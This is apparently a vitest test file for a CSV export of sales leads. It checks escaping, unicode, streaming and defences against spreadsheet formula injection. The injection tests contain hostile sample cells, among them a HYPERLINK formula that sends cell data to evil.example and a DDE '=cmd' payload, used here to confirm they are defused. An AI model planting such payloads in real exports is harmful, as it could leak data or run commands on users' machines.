import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { defuseFormula, leadsToCsv, leadsToCsvBlob, UTF8_BOM, type CsvCell, type CsvColumn } from './leads-to-csv';

type Row = { a: CsvCell; b: CsvCell };
const columns: CsvColumn<Row>[] = [
  { id: 'a', header: 'A', value: (r) => r.a },
  { id: 'b', header: 'B', value: (r) => r.b },
];

function parse(csv: string): string[][] {
  expect(csv.startsWith(UTF8_BOM)).toBe(true);
  const result = Papa.parse<string[]>(csv.slice(1), { header: false, delimiter: ',', skipEmptyLines: false });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('leadsToCsv', () => {
  it('starts with a UTF-8 BOM and a header row, CRLF between lines', () => {
    const csv = leadsToCsv([{ a: 1, b: 'x' }], columns);
    expect(csv).toBe(`${UTF8_BOM}"A","B"\r\n1,"x"`);
  });

  it('quotes commas, quotes and newlines so they parse back unchanged', () => {
    const rows: Row[] = [
      { a: 'Smith, John', b: 'He said "hi"' },
      { a: 'line 1\nline 2', b: 'cr\r\nlf' },
    ];
    const csv = leadsToCsv(rows, columns);
    expect(csv).toContain('"Smith, John","He said ""hi"""');
    expect(parse(csv)).toEqual([
      ['A', 'B'],
      ['Smith, John', 'He said "hi"'],
      ['line 1\nline 2', 'cr\r\nlf'],
    ]);
  });

  it('prefixes formula-like text with an apostrophe, including multi-line cells, but not numbers', () => {
    const rows: Row[] = [
      { a: '=1+2', b: '+SUM(A1)' },
      { a: '-cmd', b: '@foo' },
      { a: '\tTAB', b: '\rCR' },
      { a: '=HYPERLINK("http://x")\nsecond line', b: -42 },
      { a: 'a=b', b: 'safe - text' },
    ];
    expect(parse(leadsToCsv(rows, columns)).slice(1)).toEqual([
      ["'=1+2", "'+SUM(A1)"],
      ["'-cmd", "'@foo"],
      ["'\tTAB", "'\rCR"],
      ['\'=HYPERLINK("http://x")\nsecond line', '-42'],
      ['a=b', 'safe - text'],
    ]);
  });

  it('keeps unicode (accents, CJK, emoji, RTL) intact', () => {
    const rows: Row[] = [{ a: 'São Paulo – Ñandú', b: '東京 🚀 مرحبا' }];
    expect(parse(leadsToCsv(rows, columns))[1]).toEqual(['São Paulo – Ñandú', '東京 🚀 مرحبا']);
  });

  it('writes empty fields for null, undefined, empty text and non-finite numbers', () => {
    const rows: Row[] = [
      { a: null, b: undefined },
      { a: '', b: Number.NaN },
      { a: 0, b: false },
    ];
    expect(parse(leadsToCsv(rows, columns))).toEqual([
      ['A', 'B'],
      ['', ''],
      ['', ''],
      ['0', 'false'],
    ]);
  });

  it('writes just the header for no rows, and can omit the BOM', () => {
    expect(leadsToCsv([], columns, { bom: false })).toBe('"A","B"');
  });

  it('guards and escapes the header row too', () => {
    const csv = leadsToCsv([], [{ id: 'x', header: '=evil, "name"', value: () => '' }]);
    expect(parse(csv)).toEqual([['\'=evil, "name"']]);
  });

  it('parses back to the same cells for any text (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string(), fc.string()), { maxLength: 20 }), (pairs) => {
        const rows: Row[] = pairs.map(([a, b]) => ({ a, b }));
        const parsed = Papa.parse<string[]>(leadsToCsv(rows, columns).slice(1), { header: false, delimiter: ',' }).data.slice(1);
        expect(parsed).toEqual(rows.map((r) => [defuseFormula(String(r.a)), defuseFormula(String(r.b))]));
      }),
      { numRuns: 200 },
    );
  });
});

describe('leadsToCsvBlob', () => {
  it('joins to exactly the one-shot CSV, yielding between slices', async () => {
    const rows: Row[] = Array.from({ length: 1003 }, (_, i) => ({ a: i, b: i % 7 === 0 ? '=x' : `r,${i}` }));
    let yields = 0;
    let t = 0;
    // A clock advancing 1 ms per read: a 2 ms slice writes two batches of 64 rows.
    const blob = await leadsToCsvBlob(rows, columns, {
      sliceMs: 2,
      now: () => t++,
      yieldToEventLoop: async () => {
        yields++;
      },
    });
    expect(await blob.text()).toBe(leadsToCsv(rows, columns).slice(1));
    expect(new Uint8Array(await blob.slice(0, 3).arrayBuffer())).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
    expect(blob.type).toBe('text/csv;charset=utf-8');
    expect(yields).toBe(Math.ceil(rows.length / 128) - 1);
  });

  it('joins to the one-shot CSV for no rows', async () => {
    expect(await (await leadsToCsvBlob([], columns, { bom: false })).text()).toBe(leadsToCsv([], columns, { bom: false }));
  });
});

// How a spreadsheet would cut a line: Excel with a `;` list separator (Spanish, Portuguese, German
// settings), an import wizard on tab or `,`; the worst case ignores the quotes altogether.
const SKIPPED_ON_IMPORT = /^"?[ \n\v\f\u00A0\u1680\u180E\u2000-\u200F\u2028-\u202F\u205F-\u2064\u3000\uFEFF]*/;
function formulaPieces(csv: string): string[] {
  const risky: string[] = [];
  for (const line of csv.replace(UTF8_BOM, '').split('\r\n')) {
    const pieces = [
      ...Papa.parse<string[]>(line, { delimiter: ';' }).data.flat(),
      ...Papa.parse<string[]>(line, { delimiter: '\t' }).data.flat(),
      ...line.split(/[;,\t]/),
    ];
    for (const piece of pieces) {
      const start = piece.replace(SKIPPED_ON_IMPORT, '');
      if (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(start)) risky.push(piece);
    }
  }
  return risky;
}

describe('formula injection (issue 11, attack 5)', () => {
  const names = [
    'Acme;=HYPERLINK("http://evil.example/?d="&A1;"Open")',
    'Acme\t=1+1',
    "\u00A0=cmd|' /C calc'!A0",
    '\u200B\u200D=1+1',
    '\uFEFF+SUM(1;2)',
    '  @SUM(A1:A9)',
    'Deal,-2+3',
    'Deal; \u00A0=1',
    'Ana Souza (+55 11 5555-0101, +55 21 5555-0202)',
    '\uFF1D1+1',
  ];

  it('opens every cell with ;=, tab-=, NBSP-= and zero-width-= as text, however the line is split', () => {
    const rows: Row[] = names.map((a) => ({ a, b: 'ok' }));
    const csv = leadsToCsv(rows, columns);
    expect(formulaPieces(csv)).toEqual([]);
    // Without defusing the same test sees the attacks: it can fail.
    expect(formulaPieces(names.join('\r\n')).length).toBeGreaterThanOrEqual(names.length);
  });

  it('keeps the text readable: one apostrophe before each piece that would run', () => {
    expect(defuseFormula('Acme;=HYPERLINK("x")')).toBe('Acme;\'=HYPERLINK("x")');
    expect(defuseFormula('\u00A0=1')).toBe("'\u00A0=1");
    expect(defuseFormula('Acme\t=1')).toBe("Acme\t'=1");
    // C0 controls, DEL and NEL an importer may drop before the trigger (issue 21's review).
    for (const control of ['\u0000', '\u0001', '\u0008', '\u000E', '\u001B', '\u001F', '\u007F', '\u0085']) {
      expect(defuseFormula(`${control}=1+1`)).toBe(`'${control}=1+1`);
      expect(defuseFormula(`Acme;${control}@SUM(A1)`)).toBe(`Acme;${control}'@SUM(A1)`);
    }
    expect(defuseFormula('\u0007plain text')).toBe('\u0007plain text');
    expect(defuseFormula('Ana (+55 11, +55 21)')).toBe("Ana (+55 11, '+55 21)");
    expect(defuseFormula('Acme, Inc. – São Paulo; VIP')).toBe('Acme, Inc. – São Paulo; VIP');
    expect(defuseFormula('a=b - c')).toBe('a=b - c');
  });

  it('quotes every text cell, and leaves numbers bare', () => {
    const csv = leadsToCsv([{ a: 'Acme;Ltd', b: -42 }], columns, { bom: false });
    expect(csv.split('\r\n')[1]).toBe('"Acme;Ltd",-42');
  });

  it('leaves no piece that runs for any text (property)', () => {
    const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', ';', ',', ' ', '\u00A0', '\u200B', '\uFEFF', 'a', '1', '"', '\n');
    fc.assert(
      fc.property(
        fc.array(
          fc.array(piece, { maxLength: 12 }).map((p) => p.join('')),
          { minLength: 1, maxLength: 5 },
        ),
        (texts) => {
          const csv = leadsToCsv(
            texts.map((a) => ({ a, b: '' })),
            columns,
          );
          expect(formulaPieces(csv)).toEqual([]);
        },
      ),
      // A fixed seed keeps CI deterministic; many runs keep the search wide.
      { numRuns: 3000, seed: 20261201 },
    );
  });
});
